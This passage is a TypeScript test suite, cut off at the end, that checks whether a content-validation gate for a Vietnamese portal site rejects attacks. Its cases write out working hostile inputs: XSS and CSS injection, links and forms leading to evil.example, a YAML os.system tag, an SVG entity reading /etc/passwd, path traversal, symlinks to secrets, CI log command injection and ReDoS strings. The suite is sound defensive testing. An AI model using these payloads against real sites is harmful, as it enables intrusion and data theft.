import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import process from 'node:process';
import { describe, expect, test } from 'vitest';
import { checkPortalFolder, checkSettings } from '../../../src/lib/checks/index.ts';
import type { Issue } from '../../../src/lib/issues/issue.ts';
import { createReport, readReportWords } from '../../../src/lib/issues/report.ts';
import { formatGithub } from '../../../src/lib/issues/reporters/github.ts';
import { formatGitlab } from '../../../src/lib/issues/reporters/gitlab.ts';
import { formatJson } from '../../../src/lib/issues/reporters/json.ts';
import { formatTerminal } from '../../../src/lib/issues/reporters/terminal.ts';
import { createTranslations } from '../../../src/lib/translate.ts';
import { html, htmlWithPictures } from '../../support/body.ts';
import {
  base,
  type Files,
  judge,
  judgeFolder,
  makePortal,
  project,
  sourceFile,
  sourceText,
  today,
  withBody,
  withSource,
} from '../../support/gate.ts';
import { handler, script } from '../../support/hostile-portal.ts';

const json = JSON.stringify;
const everywhere = (text: string) => ({ vi: text, zh: text, en: text });
const many = (text: string, length: number): string =>
  text.repeat(Math.ceil(length / text.length)).slice(0, length);

const read = (file: string) => JSON.parse(readFileSync(path.join(project, file), 'utf8'));
const settings = JSON.parse(readFileSync(path.join(base, 'content', 'site.json'), 'utf8'));
const site = (fields: object): Files => ({ 'content/site.json': json(fields) });
const section = (fields: object): Files =>
  site({ sections: [{ ...settings.sections[0], ...fields }, ...settings.sections.slice(1)] });
// biome-ignore lint/suspicious/noExplicitAny: any field may be broken.
type Broken = any;
const changed = (file: string, change: (value: Broken) => void): Files => {
  const value = read(file);
  change(value);
  return { [file]: json(value) };
};
const locales = (change: (first: Broken, all: Broken[]) => void): Files =>
  changed('i18n/locales.json', (all) => change(all[0], all));
const added = (registry: string, record: string): Files => {
  const file = `content/data/${registry}.yaml`;
  return { [file]: `${readFileSync(path.join(base, file), 'utf8')}\n${record}\n` };
};
const front = (line: string): Files => ({ [sourceFile]: sourceText().replace('title:', `${line}\ntitle:`) });
const redirect = (from: string, to: string): Files => ({ 'content/redirects.json': json({ [from]: to }) });
const sourced = (source: string): Files => withSource({ facts: { sources: `\n    - ${source}` } });
const picture = (src: string): Files =>
  withBody(`<Picture src="${src}" alt="Chợ phiên họp buổi sáng" credit="Người chụp" licence="CC BY 4.0" />`);

type Case = readonly [what: string, code: string, files: Files];

/** What runs, or would, when the site is built. */
const running: readonly Case[] = [
  ['an import of the file system', 'mdx-import', withBody("import fs from 'node:fs'\n\nChợ.")],
  ['an export', 'mdx-import', withBody('export const prerender = false\n\nChợ.')],
  ['an expression', 'mdx-expression', withBody('Chợ {process.env.HOME} họp.')],
  ['an expression in a template', 'mdx-expression', withBody('Chợ {`$' + '{globalThis}`} họp.')],
  [
    'a spread of attributes',
    'mdx-expression',
    withBody('<Notice {...props} title="a">\n\nChợ.\n\n</Notice>'),
  ],
  [
    'front matter in JavaScript',
    'front-matter-language',
    { [sourceFile]: '---js\nmodule.exports = {}\n---\n\nChợ.' },
  ],
  ['a function in YAML', 'yaml-alias', front('a: !!js/function "function () {}"')],
  ['a Python object in YAML', 'yaml-alias', front('a: !!python/object/apply:os.system [id]')],
  ['an output path in front matter', 'reserved-key', front('slug: ../../../../etc/cron.d/x')],
  ['a layout in front matter', 'reserved-key', front('layout: /etc/passwd')],
];

/** What runs, or would, in a reader's browser. */
const browsing: readonly Case[] = [
  ['a script', 'mdx-html', withBody(`Chợ ${script} họp.`)],
  ['a picture with a handler', 'mdx-html', withBody('<img src="x" onerror="alert(1)" />')],
  ['a drawing with a handler', 'mdx-html', withBody('<svg onload="alert(1)"></svg>')],
  ['a frame', 'mdx-html', withBody('<iframe srcdoc="a"></iframe>')],
  ['a base', 'mdx-html', withBody('<base href="//evil.example/" />')],
  ['a style', 'mdx-html', withBody('<style>@import "//evil.example/x.css"</style>')],
  ['a form', 'mdx-html', withBody('<form action="//evil.example/"><input /></form>')],
  ['a refresh', 'mdx-html', withBody('<meta http-equiv="refresh" content="0;url=//evil.example/" />')],
  [
    'a handler of a component',
    'mdx-unknown-attribute',
    withBody('<Notice title="a" onClick="x">\n\nChợ.\n\n</Notice>'),
  ],
  ['inner HTML', 'mdx-unknown-attribute', withBody('<Notice title="a" set:html="<b>">\n\nChợ.\n\n</Notice>')],
  ['a component by its prototype', 'mdx-html', withBody('<constructor />')],
  ['javascript in a link', 'link-scheme', withBody('[Bài về chợ](javascript:alert(1))')],
  ['javascript behind references', 'link-scheme', withBody('[Bài về chợ](JaVa&#x73;cript&#58;alert(1))')],
  ['javascript behind a tab', 'link-scheme', withBody('[Bài về chợ](java&#9;script:alert(1))')],
  ['javascript in a definition', 'link-scheme', withBody('[Bài về chợ][a]\n\n[a]: javascript:alert(1)')],
  ['data in a link', 'link-scheme', withBody('[Bài về chợ](data:text/html;base64,PHNjcmlwdD4=)')],
  ['a blob', 'link-scheme', withBody('[Bài về chợ](blob:https://a.vn/x)')],
  ['a program of a telephone', 'link-scheme', withBody('[Bài về chợ](intent://x#Intent;end)')],
  [
    'javascript of a film',
    'link-scheme',
    withBody(
      '<Video href="javascript:alert(1)" host="YouTube" title="Chợ" poster="a.jpg" alt="Chợ phiên" />',
    ),
  ],
  [
    'javascript of an agency',
    'link-scheme',
    added(
      'agencies',
      `xss: { name: ${json(everywhere('Sở'))}, level: province, confidence: verified, source: "a", contact: { website: "javascript:alert(1)" } }`,
    ),
  ],
  [
    'javascript of a document',
    'link-scheme',
    added(
      'documents',
      'xss: { number: "1/2024/QH15", kind: law, title: { vi: "Luật" }, status: unknown, date: "2024", url: "javascript:alert(1)", confidence: verified }',
    ),
  ],
  [
    'an address of a document without strokes',
    'link-scheme',
    added(
      'documents',
      'xss: { number: "1/2024/QH15", kind: law, title: { vi: "Luật" }, status: unknown, date: "2024", url: "https:evil.example", confidence: verified }',
    ),
  ],
  [
    'javascript of the site',
    'link-scheme',
    site({ contact: { ...settings.contact, website: 'javascript:alert(1)' } }),
  ],
  [
    'javascript of a source',
    'field-type',
    sourced('{ publisher: "A", url: "javascript:alert(1)", lang: vi }'),
  ],
  ['javascript of a redirect', 'redirect-broken', redirect('/vi/cu/', 'javascript:alert(1)')],
  ['markup in the name of the site', 'markup-literal', site({ name: everywhere(`Lai Châu ${script}`) })],
  [
    'markup in the name of a section',
    'markup-literal',
    section({ name: everywhere(handler), summary: everywhere(script) }),
  ],
  ['markup in a title', 'markup-literal', withSource({ title: json(`Chợ phiên ${script}`) })],
  ['a title that ends the head', 'markup-literal', withSource({ title: json('Chợ </title><script>') })],
  [
    'markup in a name',
    'markup-literal',
    added('names', `xss: { kind: place, name: ${json(everywhere(script))}, approval: own, source: "a" }`),
  ],
  [
    'markup in a dictionary',
    'dictionary-html',
    changed('i18n/vi/common.json', (words) => {
      words.skip = '<b onclick=alert(1)>x</b>';
    }),
  ],
  [
    'a colour that ends its rule',
    'site-config',
    changed('content/theme.json', (theme) => {
      theme.light.bg = '#ffffff;}*{background:url(//evil.example/x)}';
    }),
  ],
  [
    'a tone that ends its selector',
    'site-config',
    changed('content/theme.json', (theme) => {
      theme.tones['x]{}'] = Object.values(theme.tones)[0];
    }),
  ],
  ['a tone of a section', 'site-config', section({ tone: 'x;}body{display:none' })],
  [
    'a tag of a language in markup',
    'site-config',
    locales((first) => {
      first.lang = 'vi"><script>';
    }),
  ],
  ['a page in public', 'public-file', { 'public/x.html': script }],
  ['a script in public', 'public-file', { 'public/x.js': 'alert(1)' }],
  ['a service worker', 'public-file', { 'public/sw.js': 'alert(1)' }],
  ['a style in public', 'public-file', { 'public/x.css': '@import "//evil.example/x"' }],
  [
    'a page without an extension',
    'json-broken',
    { 'public/.well-known/apple-app-site-association': `<!doctype html>${script}` },
  ],
  [
    'a page as a password form',
    'public-file',
    { 'public/.well-known/change-password': `<!doctype html>${script}` },
  ],
  ['rules of a server', 'public-file', { 'public/_redirects': '/* https://evil.example/ 301' }],
  [
    'a drawing that runs',
    'svg-unsafe',
    { 'public/icon-x.svg': `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">${script}</svg>` },
  ],
  [
    'a drawing with a style sheet',
    'svg-unsafe',
    {
      'public/icon-x.svg':
        '<?xml-stylesheet href="//evil.example/x.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>',
    },
  ],
  [
    'a drawing that fetches',
    'svg-unsafe',
    {
      'public/icon-x.svg':
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><style>@import "//evil.example/x.css"</style></svg>',
    },
  ],
  [
    'a drawing with entities',
    'svg-unsafe',
    {
      'public/icon-x.svg':
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><text>&x;</text></svg>',
    },
  ],
  ['a page named as a picture', 'media-type', { 'public/icon-x.png': `<!doctype html>${script}` }],
];

/** Another place than the reader is told, or one that learns of the reader. */
const leading: readonly Case[] = [
  ['a host that is none', 'link-scheme', withBody('[Bài về chợ](//evil.example/x)')],
  ['strokes the wrong way', 'link-form', withBody('[Bài về chợ](https:\\\\evil.example)')],
  ['a user before the host', 'link-host', withBody('[Bài về chợ](https://laichau.gov.vn@evil.example/)')],
  ['a number as a host', 'link-host', withBody('[Bài về chợ](https://2130706433/)')],
  [
    'a text that names another host',
    'link-text',
    withBody('[https://laichau.gov.vn](https://evil.example.com/)'),
  ],
  [
    'words that name a state host',
    'link-text',
    withBody('[Trang chính thức laichau.gov.vn](https://evil.example.com/)'),
  ],
  [
    'a film on a host that it does not name',
    'link-text',
    withBody(
      '<Video href="https://evil.example.com/x" host="youtube.com" title="Chợ" poster="a.jpg" alt="Chợ phiên" />',
    ),
  ],
  ['a link nobody sees', 'link-text', withBody('Chợ [](https://evil.example.com/) họp.')],
  [
    'a link behind a redirect',
    'link-shortener',
    withBody('[Bài về chợ](https://www.google.com/url?q=https://evil.example.com)'),
  ],
  [
    'a copy of a letter to somebody',
    'link-contact',
    withBody('[Thư](mailto:a@laichau.gov.vn?bcc=evil@evil.example)'),
  ],
  ['a code for a telephone', 'link-contact', withBody('[Gọi](tel:*%2306%23)')],
  [
    'a copy of letters to an agency',
    'link-contact',
    added(
      'agencies',
      `xss: { name: ${json(everywhere('Sở'))}, level: province, confidence: verified, source: "a", contact: { email: "a@b.vn?bcc=evil@evil.example" } }`,
    ),
  ],
  ['a picture of another host', 'image-missing', picture('https://evil.example/x.png')],
  ['a picture of Markdown from another host', 'image-missing', withBody('![Ảnh chợ](//evil.example/x.png)')],
  [
    'a cover of another host',
    'image-missing',
    withSource({
      fields: { coverAlt: '"Chợ phiên"' },
      facts: { cover: '{ photo: "https://evil.example/x.jpg", credit: A, licence: B }' },
    }),
  ],
  ['a base that is a host', 'site-config', site({ base: '//2130706433/' })],
  ['an origin that runs', 'site-config', site({ origin: 'javascript:alert(1)' })],
  ['an origin with a path', 'site-config', site({ origin: 'https://example.vn/x"><script>' })],
  ['an origin with a user', 'site-config', site({ origin: 'https://a@example.vn' })],
];

/** Files outside of the portal, in either direction. */
const outside: readonly Case[] = [
  ['a picture above the portal', 'image-missing', picture('../../../../../etc/x.png')],
  ['settings as a picture', 'image-missing', picture('../../theme.json')],
  ['a picture as its text', 'image-missing', picture('a.jpg?raw')],
  ['a picture by its alias', 'image-missing', picture('@/x.png')],
  [
    'a cover above the portal',
    'image-missing',
    withSource({
      fields: { coverAlt: '"Chợ phiên"' },
      facts: { cover: '{ photo: ../../../../etc/passwd, credit: A, licence: B }' },
    }),
  ],
  ['a document above the portal', 'link-broken', withBody('[Văn bản](../../../../etc/x.pdf)')],
  ['a text above the portal', 'link-broken', withBody('[Văn bản](../../../../etc/passwd.mdx)')],
  ['a file of the machine', 'link-scheme', withBody('[Văn bản](file:///etc/passwd)')],
  [
    'a language above its folder',
    'site-config',
    locales((first) => {
      first.code = '../../x';
    }),
  ],
  [
    'a tag of a language as a path',
    'site-config',
    locales((first) => {
      first.lang = '../../x';
    }),
  ],
  ['a section above its folder', 'site-config', section({ path: everywhere('../x') })],
  ['a section of two dots', 'site-config', section({ path: everywhere('..') })],
  ['a section with a very long path', 'site-config', section({ path: everywhere(many('a', 300)) })],
  ['a collection that every object has', 'site-config', section({ collection: 'constructor' })],
  [
    'a page above its folder',
    'bad-name',
    changed('i18n/vi/paths.json', (words) => {
      words.search = '../../x';
    }),
  ],
  [
    'a page with a very long path',
    'bad-name',
    changed('i18n/vi/paths.json', (words) => {
      words.search = many('a', 300);
    }),
  ],
  [
    'a topic above its folder',
    'registry-record',
    added('topics', `"../../x": { name: ${json(everywhere('Chợ'))}, summary: ${json(everywhere('Chợ'))} }`),
  ],
  [
    'a topic with a very long path',
    'registry-record',
    added(
      'topics',
      `${many('a', 300)}: { name: ${json(everywhere('Chợ'))}, summary: ${json(everywhere('Chợ'))} }`,
    ),
  ],
  ['a redirect above its folder', 'redirect-broken', redirect('/vi/../../x/', '/vi/')],
  ['a redirect with a very long path', 'redirect-broken', redirect(`/vi/${many('a', 300)}/`, '/vi/')],
  ['a redirect in place of a file', 'redirect-broken', redirect('/pagefind/', '/vi/')],
  ['a redirect in place of the last page', 'redirect-broken', redirect('/404/', '/vi/')],
  ['a family of covers as a path', 'field-type', withSource({ facts: { cover: '{ family: "../x" }' } })],
  ['a parent as a path', 'field-type', withSource({ facts: { parent: '../../x' } })],
  ['a figure as a path', 'reference-unknown', withBody('Chợ có <Figure id="../x" /> quầy.')],
  ['a name that every object has', 'reference-unknown', withBody('Chợ <Name id="__proto__" /> họp.')],
  [
    'an earlier version of another name',
    'kept-version',
    { 'content/news/le-hoi/versions/00000000.mdx': '---\ntitle: a\n---\n\nChợ.' },
  ],
  ['a page of the home page', 'site-config', site({ footerPages: ['../../x'] })],
  ['a time zone as a path', 'site-config', site({ timeZone: '../../etc/passwd' })],
];

/** Tricks of YAML and JSON, and settings on which the gate itself would stumble. */
const tricks: readonly Case[] = [
  ['a prototype in YAML', 'reserved-key', front('__proto__: { a: b }')],
  ['a prototype behind an escape', 'reserved-key', front('"\\x5f_proto__": { a: b }')],
  ['a bomb of aliases', 'yaml-alias', front('a: &a [x, x]\nb: &b [*a, *a]')],
  ['a merge', 'yaml-alias', front('<<: { a: b }')],
  ['a key twice by its spelling', 'yaml-broken', front('"title": a')],
  ['lists in lists', 'too-deep', front(`a: ${'['.repeat(5000)}${']'.repeat(5000)}`)],
  ['a second document', 'yaml-broken', added('topics', '---\na: b')],
  ['a registry that is a list', 'registry-record', { 'content/data/topics.yaml': '- a\n- b\n' }],
  [
    'a number without end',
    'registry-record',
    added(
      'figures',
      `xss: { value: .inf, unit: km2, label: ${json(everywhere('Số'))}, source: a, asOf: "2024", confidence: verified }`,
    ),
  ],
  ['a prototype in JSON', 'reserved-key', { 'content/theme.json': '{ "__proto__": {} }' }],
  [
    'a prototype in JSON behind an escape',
    'reserved-key',
    { 'content/theme.json': '{ "\\u005f_proto__": {} }' },
  ],
  [
    'a key twice in JSON',
    'json-broken',
    { 'content/redirects.json': '{ "/vi/a/": "/vi/", "/vi/\\u0061/": "/vi/" }' },
  ],
  [
    'objects in objects',
    'too-deep',
    { 'content/redirects.json': `${'{"a":'.repeat(500)}1${'}'.repeat(500)}` },
  ],
  ['null as settings', 'site-config', { 'i18n/locales.json': 'null' }],
  ['no language', 'site-config', { 'i18n/locales.json': '[]' }],
  [
    'languages that are all drafts',
    'site-config',
    locales((_, all) => {
      for (const one of all) one.status = 'draft';
    }),
  ],
  [
    'a main language that is a draft',
    'site-config',
    locales((first) => {
      first.status = 'draft';
    }),
  ],
  [
    'a tag that the system does not know how to read',
    'site-config',
    locales((first) => {
      first.intl = 'zz_!!';
    }),
  ],
  [
    'letters that are a pattern of their own',
    'site-config',
    locales((first) => {
      first.letters = 'a]|(a+)+$|[b';
    }),
  ],
  [
    'letters that are no letters',
    'site-config',
    locales((first) => {
      first.letters = '\\';
    }),
  ],
  [
    'letters from z to a',
    'site-config',
    locales((first) => {
      first.letters = 'z-a';
    }),
  ],
  [
    'quotation marks of nothing',
    'site-config',
    locales((first) => {
      first.writing.quotes = [['', '']];
    }),
  ],
  [
    'words of nothing',
    'site-config',
    locales((first) => {
      first.writing.vagueLinks = [''];
    }),
  ],
  ['a page size without end', 'site-config', site({ pageSize: 1e308 })],
  ['a name of a megabyte', 'site-config', site({ name: everywhere(many('a', 500_000)) })],
  [
    'a placeholder with a format',
    'dictionary-placeholders',
    changed('i18n/vi/common.json', (words) => {
      words.labelled = '{{label, number(minimumFractionDigits: 500)}} {{value}}';
    }),
  ],
  [
    'braces without end',
    'dictionary-keys',
    changed('i18n/vi/common.json', (words) => {
      words.skip = many('{{', 100_000);
    }),
  ],
  [
    'a number as a word',
    'dictionary-keys',
    changed('i18n/vi/common.json', (words) => {
      words.skip = 5;
    }),
  ],
  ['a control behind an escape of JSON', 'control-character', site({ name: everywhere('Lai\u0000 Châu') })],
  [
    'a terminal code behind an escape of YAML',
    'control-character',
    withSource({ title: '"Chợ \\e[31m phiên"' }),
  ],
  [
    'letters from right to left behind an escape',
    'direction-mark',
    withSource({ title: '"Chợ \\u202E phiên"' }),
  ],
  ['a draft that is not quite one', 'field-type', withSource({ facts: { draft: '"true"' } })],
  ['an embargo that is no moment', 'bad-date', withSource({ facts: { publish: '{ after: "mai" }' } })],
];

const errorsOf = (issues: readonly Issue[]): string[] =>
  issues.filter(({ severity }) => severity === 'error').map(({ code }) => code);

describe.each([
  ['run something when the site is built', running],
  ['run something in a reader’s browser', browsing],
  ['lead a reader astray, or tell others of the reader', leading],
  ['read or write a file elsewhere', outside],
  ['confuse the parsers', tricks],
])('an attacker who would %s is refused for', (_aim, cases) => {
  test.each(cases)('%s: %s', async (_what, code, files) => {
    expect(errorsOf(await judge(files))).toContain(code);
  });
});

test('the tests try a hundred ways and more', () => {
  expect([running, browsing, leading, outside, tricks].flat().length).toBeGreaterThan(100);
});

/** Things that only a file system can hold. */
const placed: readonly (readonly [
  what: string,
  code: string,
  file: string,
  place: (file: string) => void,
])[] = [
  [
    'settings that are a link to a device',
    'symlink',
    'content/site.json',
    (file) => symlinkSync('/dev/zero', file),
  ],
  [
    'languages that are a link to a secret',
    'symlink',
    'i18n/locales.json',
    (file) => symlinkSync('/etc/passwd', file),
  ],
  [
    'words of reports that are a link to a device',
    'symlink',
    'i18n/vi/editor/report.json',
    (file) => symlinkSync('/dev/zero', file),
  ],
  ['a text that is a link', 'symlink', sourceFile, (file) => symlinkSync('/etc/passwd', file)],
  ['a subject that is a link', 'symlink', 'content/news/khac', (file) => symlinkSync('/etc', file)],
  [
    'a registry that is a link',
    'symlink',
    'content/data/agencies.yaml',
    (file) => symlinkSync('/etc/passwd', file),
  ],
  ['all of the content as a link', 'symlink', 'content', (file) => symlinkSync('/etc', file)],
  ['a file of public that is a link', 'symlink', 'public/x.txt', (file) => symlinkSync('/etc/passwd', file)],
  ['settings that are a pipe', 'not-a-file', 'content/site.json', (file) => execFileSync('mkfifo', [file])],
  [
    'a registry that is a pipe',
    'not-a-file',
    'content/data/agencies.yaml',
    (file) => execFileSync('mkfifo', [file]),
  ],
  [
    'exceptions that are a pipe',
    'not-a-file',
    'content/data/exceptions.yaml',
    (file) => execFileSync('mkfifo', [file]),
  ],
  ['a text that is a pipe', 'not-a-file', sourceFile, (file) => execFileSync('mkfifo', [file])],
  ['settings of ten gigabytes', 'too-large', 'content/site.json', (file) => sparse(file)],
  ['a text of ten gigabytes', 'too-large', sourceFile, (file) => sparse(file)],
  ['a registry of ten gigabytes', 'too-large', 'content/data/maps.yaml', (file) => sparse(file)],
  ['a file of public of ten gigabytes', 'too-large', 'public/x.txt', (file) => sparse(file)],
  ['ten gigabytes with a marked name', 'state-secret', 'content/news/tuyet-mat.bin', (file) => sparse(file)],
  ['a picture of ten gigabytes', 'media-size', 'content/news/le-hoi/anh.jpg', (file) => sparse(file)],
];

function sparse(file: string): void {
  writeFileSync(file, '');
  truncateSync(file, 10 * 2 ** 30);
}

describe.skipIf(process.platform === 'win32')('an attacker who commits no plain file is refused for', () => {
  test.each(placed)('%s: %s', async (_what, code, file, place) => {
    const dir = makePortal();
    const absolute = path.join(dir, file);
    rmSync(absolute, { recursive: true, force: true });
    mkdirSync(path.dirname(absolute), { recursive: true });
    place(absolute);
    expect(
      (await judgeFolder(dir)).find((issue) => issue.file === file && issue.code === code),
    ).toBeDefined();
    // What a build needs before the gate, and the words of its report, are as careful.
    if (/^(?:content$|content\/[^/]+\.json|i18n\/)/.test(file))
      expect(checkSettings(dir).map((issue) => issue.code)).toEqual([code]);
    expect(readReportWords(dir)('editor:report.clean')).not.toBe('');
  });

  test('a path that is longer than the system takes', async () => {
    const dir = makePortal();
    const start = process.cwd();
    try {
      process.chdir(path.join(dir, 'content', 'news'));
    } catch {
      // The workers of Vitest may be threads, which have no folder of their own.
      return;
    }
    for (let depth = 0; depth < 900; depth++) {
      mkdirSync('aaaaaa');
      process.chdir('aaaaaa');
    }
    process.chdir(start);
    expect(errorsOf(await judgeFolder(dir))).toEqual(['bad-name']);
  });
});

describe('an attacker who would make the report say other things', () => {
  const names = [
    'a\n::set-output name=x::y',
    'a\r::error::x',
    '\u001b[2J\u001b[31mx',
    '##[add-mask]x',
    '::stop-commands::t',
    'a\u2028b',
    'gnp\u202eexe',
    '%0A::error::x',
    '{{file}} $t(editor:report.clean)',
    'a\u0007b',
    '"},{"a":"b',
  ];
  const codes = (text: string): boolean =>
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what a terminal would obey.
    /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/.test(text);
  const commands = (text: string): string[] => text.split('\n').filter((line) => /^\s*::|##\w*\[/.test(line));
  const t = readReportWords(project, 'vi');
  const reportFor = async () => {
    const files = names.map((name) => [`content/news/${name.replaceAll('/', '')}/vi.mdx`, 'x'] as const);
    return createReport(await judge(Object.fromEntries(files)));
  };

  test('by names of files gets plain lines, on a terminal and in CI', async () => {
    const report = await reportFor();
    expect(report.errors).toBeGreaterThanOrEqual(names.length);
    const shown = formatTerminal(report, t);
    expect(codes(shown)).toBe(false);
    expect(commands(shown)).toEqual([]);
    const github = formatGithub(report, t);
    expect(codes(github)).toBe(false);
    expect(commands(github).filter((line) => !/^::error file=[^:]*,title=[a-z-]+::/.test(line))).toEqual([]);
    expect(commands(github)).toHaveLength(report.errors);
    expect(JSON.parse(formatJson(report, t)).issues).toHaveLength(report.errors);
    expect(JSON.parse(formatGitlab(report, t))).toHaveLength(report.errors);
  });

  test.each([
    ['a title', { title: json('Chợ\u001b[2J\n::error::x') }],
    ['a value', { facts: { kind: json('x\n::set-output name=a::b\u001b]0;x\u0007') } }],
    ['a key', { fields: { [json('a\u001b[31m')]: 'b' } }],
    ['a body', { body: '<Evil\u001b[2J />\n\n[x](javascript:\u001b[31m)\n\n## ##[add-mask]x' }],
  ])('by %s gets plain lines', async (_place, options) => {
    const shown = formatTerminal(createReport(await judge(withSource(options))), t);
    expect(codes(shown)).toBe(false);
    expect(commands(shown)).toEqual([]);
  });

  test.each([
    ['takes words away', '{}'],
    ['puts other things in their place', json({ report: 5, issues: [], phrases: null })],
    ['leaves no JSON', '{'],
    [
      'writes commands',
      json({ report: { clean: '::stop-commands::x\u001b[2J', errors_other: '::error::{{count}}' } }),
    ],
    [
      'writes them round and round',
      json({ report: { clean: '$t(editor:report.clean) $t(editor:report.clean)' } }),
    ],
  ])('and %s is told so all the same', async (_what, words) => {
    const dir = makePortal({ 'i18n/vi/editor/report.json': words, [sourceFile]: 'x' });
    const shown = formatTerminal(createReport(await judgeFolder(dir)), readReportWords(dir));
    expect(shown).toContain('[front-matter-missing]');
    expect(codes(shown)).toBe(false);
    expect(commands(shown)).toEqual([]);
  });

  test('cannot make a message endless', async () => {
    const shown = formatTerminal(
      createReport(
        await judge(withBody(`[Bài](../${many('a', 200_000)}/vi.mdx) <Name id="${many('a', 20_000)}" />`)),
      ),
      t,
    );
    expect(shown.length).toBeLessThan(20_000);
  });
});

describe('an attacker who puts a secret into what is broken', () => {
  const secret = 'Kh0ngAiBiet!42';
  test.each<[what: string, files: Files]>([
    ['settings', site({ origin: `https://admin:${secret}@example.vn` })],
    ['YAML', { [sourceFile]: sourceText().replace('title:', `a: b: mật khẩu: ${secret}\ntitle:`) }],
    ['JSON', { 'content/redirects.json': `{ "/vi/a/": "mật khẩu: ${secret}", }` }],
    ['a body', withBody(`Mật khẩu: ${secret} {mật khẩu: ${secret}}`)],
    ['a link', withBody(`[Bài](https://admin:${secret}@example.vn/)`)],
  ])('hears of its place in %s, and not what it is', async (_what, files) => {
    const dir = makePortal(files);
    const t = readReportWords(project, 'vi');
    for (const issues of [await judgeFolder(dir), checkSettings(dir)]) {
      expect(formatTerminal(createReport(issues), t)).not.toContain(secret);
    }
    expect(errorsOf(await judgeFolder(dir))).toContain('credential');
  });
});

describe('words of a dictionary stay what they are:', () => {
  const say = (words: Record<string, string>) =>
    createTranslations([{ code: 'vi' }], () => ({ common: words }))('vi');

  test('one does not take in another', () => {
    expect(say({ a: 'x $t(common:b)', b: 'y' })('common:a')).toBe('x $t(common:b)');
    expect(say({ a: '$t(common:a) $t(common:a)' })('common:a')).toBe('$t(common:a) $t(common:a)');
  });

  test('nor does a value', () => {
    expect(say({ a: '{{x}}', b: 'y' })('common:a', { x: '{{y}} $t(common:b) $& $1' })).toBe(
      '{{y}} $t(common:b) $& $1',
    );
  });
});

describe('what passes the gate is only text in a page:', () => {
  test.each([
    ['an import that is none', "import('node:fs')"],
    ['code', `\`</code>${script}\``],
    ['a block of code', `\`\`\`html" onload="x\n</code></pre>${script}\n\`\`\``],
    ['the title of a notice', `<Notice title='" onmouseover="alert(1)'>\n\nx\n\n</Notice>`],
    [
      'the source of a quotation',
      `<Quote lang="en" source='"><img src=x onerror=alert(1)>'>\n\nx\n\n</Quote>`,
    ],
    ['the title of a link', '[a](https://a.vn/ "\\" onclick=\\"alert(1)")'],
    ['the mark of a note', 'a[^"><script>]\n\n[^"><script>]: b'],
    ['a note that every object has', 'a[^__proto__]\n\n[^__proto__]: b'],
  ])('%s', (_what, body) => {
    const page = html('vi', body).replace(/="[^"]*"/g, '=""');
    expect(page).not.toMatch(/<(?:script|img)|<[^>]*\son\w+=/);
  });

  test('the description of a picture', () => {
    expect(htmlWithPictures('vi', '![a"onerror=alert(1)](b.jpg)')).toContain('alt="a&#x22;onerror=alert(1)"');
  });

  test('a heading that has the name of a part of the page', () => {
    const page = html('vi', '## Main\n\n## Related\n\n## Footnote label\n\n## Provenance');
    expect([...page.matchAll(/id="([^"]*)"/g)].map(([, id]) => id)).toEqual([
      'main-2',
      'related-2',
      'footnote-label-2',
      'provenance-2',
    ]);
  });
});

describe('two hundred kilobytes keep nobody waiting:', () => {
  const limit = 4000;
  const wait = (files: Files): number => {
    const dir = makePortal(files);
    process.env.SITE_NOW = today;
    const start = performance.now();
    const issues = checkPortalFolder(dir, { knowsVersion: () => false });
    formatTerminal(createReport(issues), readReportWords(project, 'vi'));
    return performance.now() - start;
  };
  const size = 200_000;

  test.each<[what: string, body: string]>([
    ['brackets', many('[', size)],
    ['links that are not closed', many('[a](b', size)],
    ['braces in tags', many('<a b={', size)],
    ['tags in braces', many('<a {b} ', size)],
    ['signs', many('< ', size)],
    ['comments', many('<!-- ', size)],
    ['asterisks', many('a**b', size)],
    ['underscores', many('a_b_', size)],
    ['backticks', many('`a', size)],
    ['strokes', many('|', size)],
    ['rows of strokes', `${many('| ', size / 2)}\n${many('| ', size / 2)}x`],
    ['cells', `a\t${many('a', size / 2)}\n${many('b', size / 2)}`],
    ['quotation marks', many('“a \'b "c ', size / 2)],
    ['dots', many('a.b.', size)],
    ['digits', many('1 ', size)],
    ['numerals', many('1.234.567,89 ', size)],
    ['spaces', many(' ', size)],
    ['tabs', many('\t', size)],
    ['lines', many(' \n', size)],
    ['notes', many('[^1]', 7000)],
    ['Han characters', many('汉', size / 3)],
    ['marks over letters', many('e\u0301', size / 3)],
    ['names', many('Nguyễn Văn ', size / 2)],
    ['capitals', many('A B ', size)],
    ['marks of secrecy', many('M Ậ T ', size / 2)],
    ['degrees', many('TUYỆT MẬT ', size / 2)],
    ['half a degree', `M${many(' ', size)}ẬT`],
    ['numbers of documents', many('12/KH-', size)],
    ['telephones', many('09-', size)],
    ['mail', many('a.a.a@a.', size)],
    ['users', many('https://a:b@', size)],
    ['a long host', `[Trang của tỉnh](https://${many('a.', size)}vn/)`],
    ['a long mail address', `[Thư](mailto:a@${many('a.', size)})`],
    ['headings', many('# a\n', size)],
    ['headings of one name', many('## a\n\n', size)],
    ['underlined headings', many('a\n=\n', size)],
    [
      'anchors',
      `${Array.from({ length: 3000 }, (_, i) => `## Mục ${i}`).join('\n\n')}\n\n${Array.from({ length: 3000 }, (_, i) => `[Mục](#mux-${i})`).join(' ')}`,
    ],
    ['wide signs', many('＜a ', size / 2)],
    ['addresses', many('https://a.vn ', size)],
    ['letters of other scripts', many('Lаi ', size / 2)],
    ['damaged letters', many('Ã¡', size / 2)],
  ])('%s', (_what, body) => {
    expect(wait(withBody(body))).toBeLessThan(limit);
  });

  test.each<[what: string, files: Files]>([
    [
      'references that lead nowhere',
      added(
        'agencies',
        Array.from(
          { length: 2000 },
          (_, i) =>
            `x${i}: { name: ${json(everywhere(`Sở ${i}`))}, level: province, parent: zz${i}, confidence: verified, source: a }`,
        ).join('\n'),
      ),
    ],
    [
      'records that are none',
      added('names', Array.from({ length: 5000 }, (_, i) => `x${i}: { kind: 1 }`).join('\n')),
    ],
    [
      'redirects that lead nowhere',
      {
        'content/redirects.json': json(
